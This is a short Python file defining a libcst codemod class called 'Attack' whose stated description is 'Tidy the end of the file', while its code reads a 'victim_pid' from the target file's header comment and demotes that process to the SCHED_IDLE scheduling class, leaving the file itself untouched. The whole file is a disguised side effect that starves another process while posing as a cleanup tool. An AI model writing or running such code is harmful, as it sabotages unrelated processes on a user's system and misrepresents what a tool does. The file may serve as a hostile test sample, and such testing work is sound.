"""Have another process scheduled as one that is never in a hurry."""
import ast
import os

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        os.sched_setscheduler(target["victim_pid"], os.SCHED_IDLE, os.sched_param(0))
        return tree
